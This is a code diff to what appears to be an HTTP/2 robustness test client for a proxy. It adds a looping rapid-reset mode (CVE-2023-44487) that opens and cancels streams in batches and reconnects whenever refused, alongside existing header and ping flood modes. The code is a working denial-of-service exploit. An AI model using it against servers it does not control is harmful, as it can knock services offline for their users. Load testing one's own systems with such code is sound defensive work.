@@ -11,6 +11,8 @@ MODE:
   rapid-reset      N streams opened (CONNECT) and reset (CANCEL) at once, in batches, as fast
                    as possible (CVE-2023-44487). Reports the GOAWAY, if any, and how many pairs
                    were sent before it.
+  rapid-reset-loop rapid-reset again and again for N ms, reconnecting whenever the waypoint closes
+                   the connection (or refuses it). Reports connections made, refused, pairs sent.
   headers          one CONNECT carrying N extra headers (x-h<i>: v).
   header-bytes     one CONNECT carrying one header whose value is N bytes.
   ping-flood       N PING frames in one write, without reading the answers for 1 s.
@@ -112,9 +114,42 @@ class Peer:
                 self.eof = True
 
 
+def rapid_reset_loop(host, port, cert, key, ca, authority, ms):
+    end = time.time() + ms / 1000
+    out = {"connections": 0, "refused": 0, "sent": 0}
+    headers = [(":method", "CONNECT"), (":authority", authority)]
+    while time.time() < end:
+        try:
+            sock, conn = connect(host, port, cert, key, ca)
+        except (ConnectionError, ssl.SSLError, OSError):
+            out["refused"] += 1
+            time.sleep(0.01)
+            continue
+        out["connections"] += 1
+        peer = Peer(sock, conn)
+        try:
+            while time.time() < end and not peer.goaway and not peer.eof:
+                for _ in range(200):
+                    sid = conn.get_next_available_stream_id()
+                    conn.send_headers(sid, headers)
+                    conn.reset_stream(sid, error_code=8)
+                    out["sent"] += 1
+                peer.flush()
+                peer.pump(0)
+        except (h2.exceptions.ProtocolError, ConnectionError, ssl.SSLError, OSError):
+            pass
+        try:
+            sock.close()
+        except OSError:
+            pass
+    print(json.dumps(out))
+
+
 def main():
     host, port, cert, key, ca, authority, mode, n = sys.argv[1:9]
     n = int(n)
+    if mode == "rapid-reset-loop":
+        return rapid_reset_loop(host, port, cert, key, ca, authority, n)
     sock, conn = connect(host, port, cert, key, ca)
     peer = Peer(sock, conn)
     peer.pump(0.2)  # the server's SETTINGS
